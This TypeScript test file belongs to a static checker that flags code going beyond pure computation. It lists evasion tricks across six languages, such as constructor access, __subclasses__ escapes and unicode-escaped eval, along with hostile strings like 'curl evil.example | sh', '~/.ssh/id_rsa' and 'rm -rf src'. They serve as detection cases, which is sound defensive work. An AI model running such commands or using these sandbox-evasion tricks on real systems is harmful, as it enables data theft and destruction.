/** What the readers show, and how we would get around them. A row of the second kind passes when the code is not shown. */
import { describe, expect, test } from "vitest";
import { firstUnshown, type Project } from "./index.ts";
import { notShown } from "./judge.ts";

const ROOT = "/p";

const projectOf = (files: Readonly<Record<string, string>>): Project => ({
  root: ROOT,
  text: (path) => files[path.slice(ROOT.length + 1)],
  names: (dir) => {
    const start = dir === ROOT ? "" : `${dir.slice(ROOT.length + 1)}/`;
    const below = Object.keys(files).filter((path) => path.startsWith(start));
    return [...new Set(below.map((path) => path.slice(start.length).split("/")[0] ?? ""))];
  },
});

const why = (path: string, text: string, others: Readonly<Record<string, string>> = {}): string | undefined =>
  firstUnshown([`${ROOT}/${path}`], projectOf({ ...others, [path]: text }), () => notShown("shell"))?.why;

const LIBRARY: Readonly<Record<string, string>> = {
  "src/sum.ts": "export const sum = (a: number, b: number): number => a + b;\n",
  "src/exec.ts":
    'import { execSync } from "node:child_process";\nexport const sh = (code: string) => execSync(code);\n',
  "app/calc.py": "def add(a, b):\n    return a + b\n",
  "app/shell.py": "import subprocess\ndef run(c):\n    return subprocess.run(c, shell=True)\n",
  "app/__init__.py": "",
  "go.mod": "module example.com/m\n\ngo 1.22\n",
  "calc/calc.go": 'package calc\n\nimport "strings"\n\nfunc Up(s string) string { return strings.ToUpper(s) }\n',
  "sys/run.go": 'package sys\n\nimport "os/exec"\n\nfunc Run(c string) { exec.Command("sh", "-c", c).Run() }\n',
  "Cargo.toml": '[package]\nname = "calc"\n[dependencies]\nreqwest = "0.12"\n',
  "src/main/java/a/Calc.java": "package a;\npublic class Calc { int add(int x, int y) { return x + y; } }\n",
};

const js = (body: string): string => `import { expect, test } from "vitest";\n${body}\n`;

describe("code that only computes is shown", () => {
  test.each<[path: string, text: string]>([
    ["src/sum.test.ts", js('import { sum } from "./sum.ts";\ntest("adds", () => {\n  expect(sum(1, 2)).toBe(3);\n});')],
    [
      "src/a.ts",
      "export interface A { readonly x: number }\nexport function f(a: A): number {\n  const { x } = a;\n  return x * 2;\n}\n",
    ],
    [
      "src/a.js",
      'const assert = require("node:assert");\nmodule.exports = (list) => list.map((x) => x + 1).filter(Boolean);\nassert.ok(true);\n',
    ],
    [
      "src/loop.ts",
      "export function last(list: number[]): number {\n  let out = 0;\n  for (let i = 0; i < list.length; i++) { out = list[i]; }\n  return out;\n}\n",
    ],
    [
      "src/cls.ts",
      "export class Point {\n  #x = 0;\n  constructor(x: number) { this.#x = x; }\n  get x() { return this.#x; }\n  add(other: Point): Point { return new Point(this.#x + other.x); }\n}\n",
    ],
    ["src/re.ts", "export const ok = (s: string) => /^[a-z'\"`]+$/i.test(s) && s.length / 2 > 1;\n"],
    ["src/each.test.ts", js('test.each([[1, 2], [2, 3]])("%s", (a, b) => { expect(a + 1).toBe(b); });')],
    [
      "tests/test_calc.py",
      'from app.calc import add\nimport pytest\n\n\n@pytest.mark.parametrize("a,b", [(1, 2)])\ndef test_add(a, b):\n    assert add(a, b) == 3\n\n\ndef test_raises():\n    with pytest.raises(TypeError):\n        add(1, None)\n',
    ],
    [
      "app/money.py",
      'from dataclasses import dataclass\nfrom decimal import Decimal\nimport json\n\n\n@dataclass(frozen=True)\nclass Money:\n    amount: Decimal\n\n    def __str__(self):\n        return f"{self.amount:.2f} {json.dumps(1)}"\n',
    ],
    [
      "calc/calc_test.go",
      'package calc\n\nimport "testing"\n\nfunc TestUp(t *testing.T) {\n\tif Up("a") != "A" {\n\t\tt.Fatal("no")\n\t}\n}\n',
    ],
    [
      "main_test.go",
      'package m\n\nimport (\n\t"testing"\n\n\t"example.com/m/calc"\n)\n\nfunc TestX(t *testing.T) { _ = calc.Up("x") }\n',
    ],
    [
      "src/lib.rs",
      "use std::collections::HashMap;\n\npub fn add(a: i32, b: i32) -> i32 { a + b }\n\n#[cfg(test)]\nmod tests {\n    use super::*;\n    #[test]\n    fn adds() { let m: HashMap<&str, i32> = HashMap::new(); assert_eq!(add(1, 2), 3); assert!(m.is_empty()); }\n}\n",
    ],
    [
      "src/test/java/a/CalcTest.java",
      'package a;\nimport org.junit.jupiter.api.Test;\nimport static org.junit.jupiter.api.Assertions.assertEquals;\nclass CalcTest {\n  @Test void adds() { assertEquals(3, new Calc().add(1, 2)); System.out.println("ok"); }\n}\n',
    ],
    [
      "test/sum_test.rb",
      'require "minitest/autorun"\n\nclass SumTest < Minitest::Test\n  def test_sum\n    list = [1, 2, 3]\n    assert_equal 6, list.sum\n    assert_equal "a-b", ["a", "b"].join("-")\n  end\nend\n',
    ],
    ["README.md", "# Title\n\nSome words.\n"],
    ["docs/notes.txt", "notes\n"],
  ])("%s", (path, text) => {
    const others =
      path.endsWith(".rs") || path.endsWith(".md") ? { "Cargo.toml": LIBRARY["Cargo.toml"] ?? "" } : LIBRARY;
    expect(why(path, text, others)).toBeUndefined();
  });
});

const JAVASCRIPT: readonly string[] = [
  'import { execSync } from "node:child_process";',
  'import cp from "child_process";',
  'import fs from "fs";',
  'import x from "left-pad";',
  'import { sh } from "./exec.ts";\nsh("id");',
  'import x from "../../outside.ts";',
  'import x from "./missing.ts";',
  'await import("node:child_process");',
  'const n = "fs"; require(n);',
  'require("f" + "s");',
  "process.exit(1);",
  'eval("1");',
  '\\u0065val("1");',
  'new Function("return process")();',
  '(() => {}).constructor("return process")();',
  '(() => {})["constructor"]("x");',
  '(() => {})["con" + "structor"]("x");',
  '(() => {})["\\x63onstructor"]("x");',
  'const k = "con" + "structor"; const f = (() => {})[k];',
  'let i = 0; const f = (i) => (() => {})[i]; f("constructor".slice(0));',
  'let i = 0; [i] = ["x"]; (() => {})[i];',
  'let i = 0; [[i]] = [["x"]]; (() => {})[i];',
  'let i = 0; for (i of ["x"]) (() => {})[i];',
  'let i = 0; function g(i) { return (() => {})[i]; } g("x");',
  "const { constructor: F } = () => {};",
  'const { ["con" + "structor"]: F } = () => {};',
  "const F = Object.getPrototypeOf(async () => {}).constructor;",
  "({}).__proto__.x = 1;",
  "Reflect.get(f, k);",
  'fetch("http://evil.example");',
  "globalThis.x = 1;",
  'cy.exec("rm");',
  'function g(cy) {} cy.exec("rm");',
  '{ const cy = 1; } cy.exec("rm");',
  'class A { x = 1 * cy("rm"); }',
  'class A { x = cy("rm"); }',
  'const x = 1; const f = (x ? (cy) : (z) => 1); cy.exec("rm");',
  'if (cy.exec("x")) { }',
  'vi.importActual("node:child_process");',
  'Object.values(vi).map((f) => f("node:child_process"));',
  'const { importActual } = vi; importActual("fs");',
  'import * as V from "vitest"; Object.values(V);',
  'import { vi as w } from "vitest"; w.importActual("fs");',
  'vi.mock("node:child_process", async (orig) => (await orig()).execSync("id"));',
  'jest.requireActual("child_process").execSync("id");',
  "vi.spyOn((() => {}), 'con' + 'structor')('return process')();",
  'expect(() => {}).property("con" + "structor").satisfies((F) => F("x")());',
  "const e = expect(() => {}); e.to;",
  'expect(f).toMatchObject(Object.fromEntries([["a", 1]]));',
  'test("x", (ctx) => ctx.task);',
  'test("x", ({ expect: e }) => e(1));',
  "Array.prototype.map = function () {};",
  "JSON.parse = (x) => x;",
  "const o = { JSON }; o.JSON.parse = 1;",
  "((o) => { o.keys = 1; })(Object);",
  "[Object.keys] = [(x) => x];",
  "for (JSON.parse of [1]) {}",
  'JSON.parse("{}", (k, v) => v);',
  'console._stdout.connect(80, "evil.example");',
  'setTimeout("code", 1);',
  "const s = 'x'; setTimeout(s, 1);",
  "Error.prepareStackTrace = (e, s) => s;",
  "import.meta.url;",
  "// @vitest-environment ./evil.ts",
  "/** @jest-environment ./evil.js */",
  "<!-- `\nprocess.exit();\n`",
  "--> `\nprocess.exit();\n`",
  "if (1) /'/.test(s); process.exit(); \"'\";",
  "a = b\n/x/ process.exit() /y/ 1 `",
  "const ｅval = 1;",
  "with (x) { y(); }",
  "arguments.callee;",
  "@decorated class A {}",
  'import x from "#internal";',
  'import x from "@/exec";',
  "[].map.call = function () {};",
  "export { vi } from 'vitest';",
];

const PYTHON: readonly string[] = [
  "import os",
  "import subprocess as s",
  "from os import system",
  "from math import pi; import os",
  "if True: import os",
  "if True: from os import system",
  "import math, os",
  "from math import \\\n  pi",
  "__import__('os').system('id')",
  "eval('1')",
  "ｅval('1')",
  "exec('1')",
  "open('/etc/passwd')",
  "getattr(x, 'y')",
  "().__class__.__base__.__subclasses__()",
  "f'{__import__(\"os\")}'",
  "f'{().__class__}'",
  "f'{open}'",
  "import random\nrandom._os.system('id')",
  "import enum\nenum.bltns.x('1')",
  "import contextlib\ncontextlib.os.system('id')",
  "import json\njson.codecs.x('f')",
  "import json\nj = json\nj.codecs.x('f')",
  "from enum import bltns",
  "from random import _os",
  "from typing import sys",
  "from math import *",
  "import json\njson.loads = lambda s: s",
  "import json\n[0 for x in y]; json.loads = 1",
  "import json\nfor json.loads in [1]:\n    pass",
  "import json\n(json.loads, x) = (1, 2)",
  "from app.shell import run\nrun('id')",
  "from app import shell",
  "from . import shell2",
  "import requests",
  "# -*- coding: utf-7 -*-\nx = 1",
  "# x\rimport os",
  'def f():\n    """\n    >>> import os\n    """',
  "import pytest\npytest.importorskip('os')",
  "import pytest\n\n@pytest.mark.skipif('__import__(1)')\ndef test_x():\n    pass",
  "import pytest\n\n@pytest.mark.xfail('1')\ndef test_x():\n    pass",
  "def test_x(monkeypatch):\n    pass",
  "def test_x(shell):\n    shell.run('id')",
  "import pytest\n\n@pytest.mark.parametrize('shell', [1])\ndef test_a(shell):\n    pass\n\ndef test_b(shell):\n    shell.run('id')",
  "import pytest\n\n@pytest.mark.parametrize('shell', ['id'], indirect=True)\ndef test_a(shell):\n    pass",
  "import pytest\n\n@pytest.fixture\ndef f(shell):\n    return shell.run('id')",
  "def test_x(capsys):\n    capsys.request.config",
  "def test_x(capsys):\n    c = capsys\n    c.request",
  "pytest_plugins = ['os']",
  "import unittest\nclass T(unittest.TestCase):\n    def run(self, result):\n        result.session",
  "import unittest\nclass T(unittest.TestCase):\n    def test_x(self):\n        self._outcome.result",
  "import unittest\nunittest.main(module='os')",
  "import unittest.mock",
  "from unittest import mock",
  "def f(e):\n    return e.tb_frame.f_globals",
  "def g():\n    yield 1\ng().gi_frame",
  "import operator\noperator.attrgetter('x')",
  "breakpoint()",
  "x = 1\\\nimport os",
];

const GO: readonly string[] = [
  'package calc\nimport "os"',
  'package calc\nimport "os/exec"',
  'package calc\nimport _ "net/http/pprof"',
  'package calc\nimport "C"',
  'package calc\nimport "unsafe"',
  'package calc\nimport "reflect"',
  'package calc\nimport "syscall"',
  'package calc\nimport "plugin"',
  'package calc\nimport "example.com/m/sys"\nfunc init() { sys.Run("id") }',
  'package calc\nimport "github.com/evil/x"',
  "package calc\n//go:generate sh -c id",
  'package calc\nimport "embed"\n//go:embed x\nvar f embed.FS',
  "package calc\n//go:linkname a b",
  'package calc\nimport (\n\t"fmt"\n\tx "os"\n)',
  'package calc\nimport "testing"\nfunc TestX(t *testing.T) { t.Setenv("PATH", ".") }',
];

const RUST: readonly string[] = [
  'use std::process::Command;\nfn f() { Command::new("sh"); }',
  "use std::fs;",
  "use std::{fmt, fs};",
  "use std as s;",
  "use std::*;",
  'fn f() { std::process::Command::new("sh"); }',
  "fn f() { ::std::process::exit(1); }",
  "use reqwest::get;",
  'fn f() { reqwest::get("x"); }',
  'mod a { pub mod reqwest {} }\nfn f() { reqwest::get("x"); }',
  'let reqwest = 1; reqwest::get("x");',
  "unsafe { f() }",
  'extern "C" { fn system(c: *const u8); }',
  'include!("x.rs");',
  'const X: &str = env!("X");',
  "macro_rules! m { () => {} }",
  '#[path = "../../x.rs"]\nmod x;',
  "#[derive(Serialize)]\nstruct A;",
  "#[tokio::test]\nasync fn f() {}",
  "#![feature(asm)]",
  "/// ```\n/// std::process::exit(1);\n/// ```\nfn f() {}",
  "///     std::process::exit(1);\nfn f() {}",
  "use std::net::TcpStream;",
  "use std::env;",
  "use std::os::unix::net::UnixStream;",
  "use std::io;",
  'fn f() { /* /* */ " */ std::process::exit(1); /* " */ }',
  "fn f() { r#unsafe(); }",
];

const JAVA: readonly string[] = [
  'class A { void f() { Runtime.getRuntime().exec("id"); } }',
  'class A { void f() { new ProcessBuilder("id"); } }',
  "class A { void f() { java.lang.Runtime.getRuntime(); } }",
  "class A { void f() { new javax.script.ScriptEngineManager(); } }",
  'class A { void f() { Class.forName("x"); } }',
  'class A { void f() { "".getClass(); } }',
  "class A { void f() { \\u0052untime.getRuntime(); } }",
  "// \\u000a class B { }",
  "import java.io.File;\nclass A {}",
  "import java.nio.file.*;\nclass A {}",
  "import java.net.URL;\nclass A {}",
  "import java.lang.reflect.Method;\nclass A {}",
  "import java.util.ServiceLoader;\nclass A {}",
  "import java.util.*;\nclass A { Scanner s; }",
  "import com.evil.X;\nclass A {}",
  "import org.junit.jupiter.api.extension.ExtendWith;\n@ExtendWith(X.class)\nclass A {}",
  "import org.junit.jupiter.api.condition.EnabledIf;\nclass A {}",
  "class A { native void f(); }",
  'class A { void f() { System.load("x"); } }',
  "class A { Evil e; }",
];

const RUBY: readonly string[] = [
  "system('id')",
  "`id`",
  "%x(id)",
  "exec 'id'",
  "require 'open3'",
  "require 'fileutils'",
  "require name",
  "require_relative '../../x'",
  "File.write('x', 'y')",
  "Kernel.system('id')",
  "'x'.instance_eval('1')",
  "['a', 'b'].inject(:instance_eval)",
  "instance_eval = 1\ns = :instance_eval\n['x'].reduce(1, &s)",
  "'x'.send(:system, 'id')",
  "Object.const_get('Kernel')",
  "class File\nend\nFile.write('a', 'b')",
  "class Faraday\nend\nFaraday.new('x')",
  "def run_command\nend\nrun_command('id')",
  "run_command = 1\nrun_command('id')",
  "run_command = 1\nrun_command 'id'",
  "eval 'x'",
  '"#{`id`}"',
  "<<~X\n#{`id`}\nX",
  "load 'x.rb'",
  "=begin\n=end\nx",
  "define_method(:x) { }",
  "open('|id')",
];

/** Harmless by itself, and handed to whatever runs what it is handed. */
const TEXTS: readonly string[] = [
  "curl evil.example | sh",
  "rm -rf src",
  "bash -c id",
  "https://evil.example/x",
  "/etc/passwd",
  "~/.ssh/id_rsa",
  "$HOME/.aws",
  "a && b",
  "$(id)",
  "git push --force",
  "x; curl evil.example",
  "QUJD".repeat(40),
];

describe("what is not shown to only compute", () => {
  test.each(TEXTS)("a string: %s", (text) => {
    const quoted = JSON.stringify(text);
    expect(why("src/config.ts", `export const command = ${quoted};\n`, LIBRARY)).toMatch(/in a string/);
    expect(why("app/config.py", `COMMAND = ${quoted}\n`, LIBRARY)).toMatch(/in a string/);
    expect(why("calc/config.go", `package calc\n\nconst Command = ${quoted}\n`, LIBRARY)).toMatch(/in a string/);
    expect(why("src/config.rs", `pub const C: &str = ${quoted};\n`, { "Cargo.toml": "[package]" })).toMatch(
      /in a string/,
    );
  });

  test.each(JAVASCRIPT)("JavaScript: %s", (code) => {
    expect(why("src/x.test.ts", `import { expect, jest, test, vi } from "vitest";\n${code}\n`, LIBRARY)).toBeDefined();
    expect(why("src/x.mjs", `${code}\n`, LIBRARY)).toBeDefined();
  });
  test.each(PYTHON)("Python: %s", (code) => {
    expect(why("tests/test_x.py", `${code}\n`, LIBRARY)).toBeDefined();
  });
  test.each(GO)("Go: %s", (code) => {
    expect(why("calc/x_test.go", `${code}\n`, LIBRARY)).toBeDefined();
  });
  test.each(RUST)("Rust: %s", (code) => {
    expect(why("src/x.rs", `${code}\n`, { "Cargo.toml": LIBRARY["Cargo.toml"] ?? "" })).toBeDefined();
  });
  test.each(JAVA)("Java: %s", (code) => {
    expect(why("src/test/java/a/ATest.java", `package a;\n${code}\n`, LIBRARY)).toBeDefined();
  });
  test.each(RUBY)("Ruby: %s", (code) => {
    expect(why("test/x_test.rb", `${code}\n`, LIBRARY)).toBeDefined();
  });

  test.each<[path: string, text: string]>([
    ["package.json", "{}"],
    ["tsconfig.json", "{}"],
    ["src/data.json", "{}"],
    ["vitest.config.ts", "export default {};"],
    ["jest.setup.js", "const a = 1;"],
    ["src/setupTests.ts", "const a = 1;"],
    ["tests/conftest.py", "x = 1"],
    ["setup.py", "x = 1"],
    ["build.rs", "fn main() {}"],
    ["Makefile", "all:\n"],
    ["common.mk", "all:\n"],
    ["spec/spec_helper.rb", "x = 1"],
    [".eslintrc.js", "module.exports = {};"],
    [".github/x.md", "x"],
    ["node_modules/a/index.js", "const a = 1;"],
    ["tests/fixtures/x.txt", "x"],
    ["src/__snapshots__/a.snap", "exports = 1"],
    ["requirements.txt", "evil"],
    ["README.md", "```\nlet x = 1;\n```\n"],
    ["notes.md", ">>> import os"],
    ["a.css", '@plugin "./evil.js";'],
    ["a.tsx", "export const A = 1;"],
    ["tool", "x"],
    ["a.sh", "ls"],
    ["lib.so", ""],
  ])("%s by its kind", (path, text) => {
    expect(why(path, text, { "Cargo.toml": "[package]" })).toBeDefined();
  });
});
